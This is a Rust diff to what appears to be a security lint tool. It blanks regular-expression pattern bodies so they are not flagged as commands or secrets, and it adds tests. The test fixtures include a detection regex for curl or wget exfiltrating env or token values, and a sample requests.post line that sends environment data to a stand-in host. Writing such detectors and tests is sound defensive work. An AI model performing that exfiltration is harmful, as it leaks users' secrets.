@@ -126,6 +126,46 @@ pub(super) const ASSIGN_KEYWORDS: &[&str] = &[
     "global", "static", "final", "auto", "val",
 ];
 
+/// Whether the code before a string literal hands it, as the first argument, to a regular
+/// expression's constructor or search (`re.compile(`, `new RegExp(`, `regexp.MustCompile(`).
+fn compiles_pattern(before: &str) -> bool {
+    // A Python string's prefix (`r"…"`, `rb'…'`) is a word of its own to the tokenizer.
+    let before = before
+        .trim_end_matches(['r', 'R', 'b', 'B', 'u', 'U'])
+        .trim_end();
+    let Some(call) = before.strip_suffix('(') else {
+        return false;
+    };
+    let call = call.trim_end();
+    [
+        "re.compile",
+        "re.search",
+        "re.match",
+        "re.fullmatch",
+        "re.findall",
+        "re.finditer",
+        "re.sub",
+        "re.subn",
+        "re.split",
+        "regex.compile",
+        "RegExp",
+        "Regex",
+        "Regex::new",
+        "regexp.MustCompile",
+        "regexp.Compile",
+        "Pattern.compile",
+    ]
+    .iter()
+    .any(|f| {
+        call.strip_suffix(f).is_some_and(|rest| {
+            !rest
+                .chars()
+                .next_back()
+                .is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '.')
+        })
+    })
+}
+
 /// Prepares the statement `toks` of `text`.
 pub fn prepare(text: &str, toks: &[Token], lang: Lang) -> Option<Stmt> {
     let first = toks.iter().find(|t| t.kind != Kind::Comment)?;
@@ -145,6 +185,27 @@ pub fn prepare(text: &str, toks: &[Token], lang: Lang) -> Option<Stmt> {
             continue;
         }
         let s = &text[tok.start..tok.end];
+        if matches!(tok.kind, Kind::Str { .. })
+            && s.len() > 2
+            && compiles_pattern(&text[start..tok.start])
+        {
+            // A regular expression's pattern is what a search looks for, not a command, an
+            // address or a secret: its body is blanked, as a comment is.
+            code.push_str(&text[at.min(tok.start)..tok.start]);
+            // (Quotes are ASCII: both cuts fall on character boundaries.)
+            let body_start = s.find(['"', '\'', '`']).map_or(0, |q| q + 1);
+            let body_end = if s.ends_with(['"', '\'', '`']) {
+                s.len() - 1
+            } else {
+                s.len()
+            }
+            .max(body_start);
+            code.push_str(&s[..body_start]);
+            code.extend(std::iter::repeat_n(' ', body_end - body_start));
+            code.push_str(&s[body_end..]);
+            at = tok.end;
+            continue;
+        }
         match tok.kind {
             Kind::Word { var } => {
                 if var {
@@ -496,6 +557,34 @@ fn def_header(code: &str) -> Option<(String, Vec<String>)> {
 #[cfg(test)]
 mod tests {
     use super::identity_only;
+
+    #[test]
+    fn a_regular_expressions_pattern_is_blanked() {
+        use crate::lint::flow::lex::{self, Lang};
+        let text = r#"EXFIL = re.compile(r"(curl|wget)\s+https?://\S+.*(env|token)", re.I)"#;
+        let toks = lex::tokens(text, Lang::Python);
+        let stmt = super::prepare(text, &toks, Lang::Python).unwrap();
+        assert_eq!(stmt.code.len(), text.len());
+        assert!(!stmt.code.contains("curl") && !stmt.code.contains("env"));
+        assert!(
+            stmt.code.starts_with("EXFIL = re.compile(r\"") && stmt.code.ends_with("\", re.I)")
+        );
+        // A search that is not a pattern's constructor keeps its string.
+        let text = r#"requests.post("https://x.example/c", data=env)"#;
+        let toks = lex::tokens(text, Lang::Python);
+        assert!(
+            super::prepare(text, &toks, Lang::Python)
+                .unwrap()
+                .code
+                .contains("x.example")
+        );
+        for before in ["x = re.compile(", "new RegExp( ", "regexp.MustCompile("] {
+            assert!(super::compiles_pattern(before), "{before}");
+        }
+        for before in ["lre.compile(", "print(", "my_re.compiler("] {
+            assert!(!super::compiles_pattern(before), "{before}");
+        }
+    }
 
     #[test]
     fn a_key_given_to_ssh_is_used_not_sent() {
